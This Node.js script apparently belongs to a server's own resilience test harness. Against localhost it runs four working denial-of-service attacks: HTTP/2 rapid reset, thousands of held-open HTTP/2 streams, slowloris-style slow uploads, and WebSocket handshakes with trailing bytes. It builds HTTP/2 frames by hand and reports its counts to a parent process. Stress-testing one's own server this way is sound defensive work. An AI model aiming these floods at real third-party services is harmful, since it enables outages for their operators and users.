// The attacker of scripts/attack, in its own process so that the prober's timings do not wait on it:
//   node attack-client.mjs KIND H1PORT H2CPORT DURATION_MS
// runs one attack against 127.0.0.1 for DURATION_MS, then sends its counts to the parent over IPC and exits.
//   ws             WebSocket handshakes to /ws followed by extra bytes (the upstream answers 200, not 101),
//                  50 at a time, each connection closed once the answer is in
//   rapid-reset    HTTP/2 (h2c) streams opened and cancelled at once (HEADERS + RST_STREAM CANCEL), 100 per
//                  write, on 4 connections; a connection the server closes is replaced (reconnects)
//   slow-streams   2 HTTP/2 connections that each keep 3000 streams to /slow open, sent without waiting for
//                  the server's SETTINGS; refused or reset streams are opened again every 500 ms
//   slow-uploads   1200 HTTP/1.1 POST /upload with Content-Length 1 MiB, each sending 1 KiB a second
import net from 'node:net';

const [kind, h1Port, h2cPort, durationMs] = process.argv.slice(2);
const HOST = '127.0.0.1';
const deadline = Date.now() + Number(durationMs);
const stats = { kind, connections: 0, sent: 0, answered: 0, refused: 0, errors: 0, goaway: {} };
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const live = new Set();

function connect(port) {
  return new Promise((resolve) => {
    const s = net.connect(port, HOST);
    live.add(s);
    s.on('close', () => live.delete(s));
    s.on('error', () => { stats.errors++; });
    s.once('connect', () => { stats.connections++; resolve(s); });
    s.once('close', () => resolve(null));
  });
}

// ---- HTTP/2 frames, by hand ---------------------------------------------------------------------------------

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}
/** HPACK: GET, http, a literal :path and :authority. */
function headers(path) {
  return Buffer.concat([Buffer.from([0x82, 0x86, 0x04, path.length]), Buffer.from(path), Buffer.from([0x01, 6]), Buffer.from('attack')]);
}
const RST_CANCEL = Buffer.from([0, 0, 0, 8]);

/** Read frames from `s`; SETTINGS are acknowledged, the rest goes to `onFrame(type, flags, stream, payload)`. */
function frames(s, onFrame) {
  let buf = Buffer.alloc(0);
  s.on('data', (d) => {
    buf = buf.length ? Buffer.concat([buf, d]) : d;
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      const type = buf[3];
      const flags = buf[4];
      const stream = buf.readUInt32BE(5) & 0x7fffffff;
      const payload = buf.subarray(9, 9 + len);
      buf = buf.subarray(9 + len);
      if (type === 4 && !(flags & 1)) s.write(frame(4, 1, 0));
      if (type === 7) {
        const code = payload.readUInt32BE(4);
        stats.goaway[code] = (stats.goaway[code] ?? 0) + 1;
      }
      onFrame(type, flags, stream, payload);
    }
  });
}

// ---- the attacks ---------------------------------------------------------------------------------------------

async function ws() {
  const head = `GET /ws HTTP/1.1\r\nHost: attack\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\nextra bytes after the handshake`;
  const one = async () => {
    const s = await connect(Number(h1Port));
    if (!s) return;
    await new Promise((resolve) => {
      let text = '';
      s.on('data', (d) => {
        text += d.toString('latin1');
        if (/\r\n\r\n/.test(text)) { stats.answered++; s.destroy(); }
      });
      s.on('close', resolve);
      s.setTimeout(10_000, () => s.destroy());
      s.write(head);
      stats.sent++;
    });
  };
  await Promise.all(Array.from({ length: 50 }, async () => { while (Date.now() < deadline) await one(); }));
}

async function rapidReset() {
  const one = async () => {
    const s = await connect(Number(h2cPort));
    if (!s) return;
    let id = 1;
    let closed = false;
    s.on('close', () => { closed = true; });
    frames(s, () => {});
    s.write(Buffer.concat([PREFACE, frame(4, 0, 0)]));
    while (!closed && Date.now() < deadline && id < 2 ** 31 - 300) {
      const out = [];
      for (let i = 0; i < 100; i++, id += 2) out.push(frame(1, 0x05, id, headers('/')), frame(3, 0, id, RST_CANCEL));
      stats.sent += 100;
      if (!s.write(Buffer.concat(out))) await new Promise((r) => { s.once('drain', r); s.once('close', r); });
      else await new Promise((r) => setImmediate(r));
    }
    s.destroy();
  };
  await Promise.all(Array.from({ length: 4 }, async () => { while (Date.now() < deadline) await one(); }));
}

async function slowStreams() {
  const WANT = 3000;
  const one = async () => {
    const s = await connect(Number(h2cPort));
    if (!s) return;
    let id = 1;
    let open = 0;
    let closed = false;
    s.on('close', () => { closed = true; });
    frames(s, (type, flags, stream, payload) => {
      if (stream === 0) return;
      if (type === 3) {
        open--;
        if (payload.readUInt32BE(0) === 7) stats.refused++;
      } else if ((type === 0 || type === 1) && flags & 1) {
        open--;
        stats.answered++;
      }
    });
    s.write(Buffer.concat([PREFACE, frame(4, 0, 0)]));
    while (!closed && Date.now() < deadline) {
      const out = [];
      for (; open < WANT; open++, id += 2) out.push(frame(1, 0x05, id, headers('/slow')));
      stats.sent += out.length;
      if (out.length) s.write(Buffer.concat(out));
      await sleep(500);
    }
    s.destroy();
  };
  await Promise.all(Array.from({ length: 2 }, async () => { while (Date.now() < deadline) await one(); }));
}

async function slowUploads() {
  const N = 1200;
  const chunk = Buffer.alloc(1024, 97);
  const one = async () => {
    const s = await connect(Number(h1Port));
    if (!s) return;
    s.on('data', () => { stats.answered++; });
    s.write(`POST /upload HTTP/1.1\r\nHost: attack\r\nContent-Length: ${1024 * 1024}\r\n\r\n`);
    stats.sent++;
    while (!s.destroyed && Date.now() < deadline) {
      s.write(chunk);
      await sleep(1000);
    }
    s.destroy();
  };
  const all = [];
  // 100 new connections every 100 ms: a burst of 1200 SYNs would overflow the listen queue.
  for (let i = 0; i < N && Date.now() < deadline; i++) {
    all.push(one());
    if (i % 100 === 99) await sleep(100);
  }
  await Promise.all(all);
}

const attacks = { ws, 'rapid-reset': rapidReset, 'slow-streams': slowStreams, 'slow-uploads': slowUploads };
if (!attacks[kind]) {
  process.stderr.write(`unknown attack ${kind}\n`);
  process.exit(2);
}
await attacks[kind]();
for (const s of live) s.destroy();
process.send?.(stats);
process.exit(0);
